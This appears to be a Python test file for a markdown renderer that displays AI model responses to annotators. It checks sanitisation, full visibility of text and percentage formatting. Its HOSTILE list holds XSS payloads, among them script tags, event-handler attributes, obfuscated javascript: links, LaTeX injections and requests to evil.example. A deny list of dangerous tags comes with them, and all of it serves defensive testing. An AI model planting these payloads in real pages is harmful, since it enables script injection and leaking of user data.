@@ -1,0 +1,219 @@
+"""A model's text made safe to show, and shown in full."""
+
+from __future__ import annotations
+
+import html
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from labeling.rendering import render_markdown
+from labeling.templatetags.llmpo import percent
+
+
+def visible(rendered: str) -> str:
+    """What a reader sees of some HTML."""
+    return html.unescape(re.sub(r"<[^>]*>", "", rendered))
+
+
+def tags(rendered: str) -> set[str]:
+    return set(re.findall(r"<\s*([a-zA-Z0-9]+)", rendered))
+
+
+@pytest.mark.parametrize(
+    ("text", "rendered"),
+    [
+        ("plain", "<p>plain</p>\n"),
+        (
+            "**bold** *it* ~~gone~~ `code`",
+            "<p><strong>bold</strong> <em>it</em> <s>gone</s> <code>code</code></p>\n",
+        ),
+        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
+        ("5. five", '<ol start="5">\n<li>five</li>\n</ol>\n'),
+        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>\n"),
+        ("a < b && c > d", "<p>a &lt; b &amp;&amp; c &gt; d</p>\n"),
+        ("", ""),
+    ],
+)
+def test_markdown_is_rendered(text, rendered):
+    assert render_markdown(text) == rendered
+
+
+def test_a_table_is_a_table():
+    assert {"table", "thead", "tbody", "tr", "th", "td"} <= tags(render_markdown("|a|b|\n|-|-|\n|1|2|"))
+
+
+def test_code_is_highlighted_by_classes_alone():
+    rendered = render_markdown("```python\nprint('<b>')\n```")
+    assert 'class="hl-nb"' in rendered
+    assert visible(rendered).strip() == "print('<b>')"
+    assert "style=" not in rendered
+
+
+def test_code_in_a_language_nobody_knows_is_shown_as_it_is():
+    assert visible(render_markdown('```"onload=x\nfoo\n```')).strip() == "foo"
+
+
+def test_maths_becomes_mathml():
+    rendered = render_markdown(r"$x^2$ and $$\frac{1}{2}$$")
+    assert {"math", "msup", "mfrac"} <= tags(rendered)
+
+
+@pytest.mark.parametrize("text", ["It costs $5 and $10.", "$ x $", "$5"])
+def test_prices_are_no_maths(text):
+    assert "<math" not in render_markdown(text)
+    assert visible(render_markdown(text)).strip() == text
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<style>*{display:none}</style>",
+    "<form action=//evil.example><input name=q></form>",
+    "<div style='position:fixed'>x</div>",
+    "<!-- --><script>alert(1)</script><!-- -->",
+    "<<script>alert(1)//<</script>",
+    "<math><mi href='javascript:alert(1)'>x</mi></math>",
+    "</article></form><script>alert(1)</script>",
+    "[a](javascript:alert(1))",
+    "[a](JaVaScRiPt:alert(1))",
+    "[a](java&#115;cript:alert(1))",
+    "[a](&#x6A;avascript:alert(1))",
+    "[a](\x01javascript:alert(1))",
+    "[a](vbscript:x)",
+    "[a](data:text/html;base64,PHNjcmlwdD4=)",
+    "[a](<javascript:alert(1)>)",
+    "[a]\n\n[a]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "![i](https://evil.example/pixel.png)",
+    "![i](x.png 'onerror=alert(1)')",
+    "```<script>alert(1)</script>\nx\n```",
+    '```python" onload="alert(1)\nx\n```',
+    r"$\href{javascript:alert(1)}{x}$",
+    r"$\class{a\" onclick=\"alert(1)}{x}$",
+    r"$\style{background:url(//evil.example)}{x}$",
+    r"$\text{<script>alert(1)</script>}$",
+    r"$\text{<img src=x onerror=alert(1)>}$",
+    r"$\unicode{x3c}script$",
+    r"$\text{<script>}$",
+    r"$\text{<style>}$",
+    r"$\text{<!--}$",
+    r"$\text{</math></span></p><plaintext>}$",
+]
+ALLOWED_ATTRIBUTES = {"href", "rel", "title", "start", "class", "display", "stretchy", "fence"}
+
+
+def assert_harmless(rendered: str) -> None:
+    for tag in re.findall(r"<[^>]*>", rendered):
+        name = re.match(r"</?([a-z0-9]+)", tag)
+        assert name, tag
+        assert name[1] not in {
+            "script", "style", "img", "iframe", "svg", "form", "input", "object", "embed", "link", "meta",
+            "base", "video", "audio", "source", "button", "textarea",
+        }, tag  # fmt: skip
+        attributes = dict(re.findall(r'([\w:-]+)="([^"]*)"', tag))
+        assert set(attributes) <= ALLOWED_ATTRIBUTES, tag
+        href = html.unescape(attributes.get("href", ""))
+        assert ":" not in href.split("/")[0] or href.startswith(("http://", "https://")), tag
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize(
+    "frame", ["{}", "Text before.\n\n{}\n\nText after.", "> - {}", "**{}**", "|a|\n|-|\n|{}|"]
+)
+def test_hostile_text_is_harmless_and_hides_nothing_that_follows(text, frame):
+    rendered = render_markdown(frame.replace("{}", text))
+    assert_harmless(rendered)
+    if "Text after." in frame:
+        assert "Text before." in visible(rendered)
+        assert "Text after." in visible(rendered)
+
+
+def test_a_link_goes_to_http_and_tells_the_other_side_nothing():
+    rendered = render_markdown("[a](https://example.org/?q=1)")
+    assert 'href="https://example.org/?q=1"' in rendered
+    assert 'rel="noopener noreferrer nofollow"' in rendered
+
+
+@settings(max_examples=50)
+@given(st.text(max_size=200) | st.lists(st.sampled_from(HOSTILE), max_size=4).map("\n".join))
+def test_no_text_at_all_gets_harm_through(text):
+    assert_harmless(render_markdown(text))
+
+
+@given(st.text(alphabet="ab12<>/&*_#-| \n\"'=~+.", max_size=120))
+def test_no_word_of_a_response_is_hidden(text):
+    """Whatever is made of the markup, an annotator must be shown every letter and number of it."""
+
+    def said(shown: str) -> str:
+        return re.sub(r"[^ab12]", "", shown)
+
+    rendered = visible(render_markdown(text))
+    # The numbers of a list are its markers, and drawn by the browser.
+    assert re.sub("[12]", "", said(rendered)) == re.sub("[12]", "", said(text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "> " * 100 + "deep",
+        "\n".join("  " * k + "- x" for k in range(60)),
+        "x" * 12_001,
+        "line\n" * 401,
+        "y" * 4_001,
+        "[" * 501,
+    ],
+    ids=["quotes", "lists", "long", "many lines", "long line", "brackets"],
+)
+def test_what_would_be_cut_or_take_long_is_shown_as_it_is(text):
+    rendered = render_markdown(text)
+    assert tags(rendered) == {"pre"}
+    assert visible(rendered) == text
+
+
+def test_the_plain_fallback_is_escaped():
+    text = "<script>alert(1)</script>" * 500
+    rendered = render_markdown(text)
+    assert_harmless(rendered)
+    assert visible(rendered) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "*" * 5000,
+        "_a" * 3000,
+        "`" * 5000,
+        "|" * 4000,
+        "((" * 2000,
+        "&" * 10_000,
+        "$" + "{" * 400 + "$",
+        "<" * 4000,
+    ],
+    ids=lambda text: text[:3],
+)
+def test_pathological_text_ends(text):
+    assert visible(render_markdown(text)) is not None
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        (None, "–"),
+        (0.0, "0%"),
+        (0.953, "95%"),
+        (0.9999, "99%"),
+        (1.0, "100%"),
+        (0.29, "29%"),
+        (0.57, "57%"),
+        (1 - 0.07, "93%"),
+    ],
+)
+def test_a_percentage_is_never_rounded_up_nor_lost_to_binary(value, shown):
+    assert percent(value) == shown
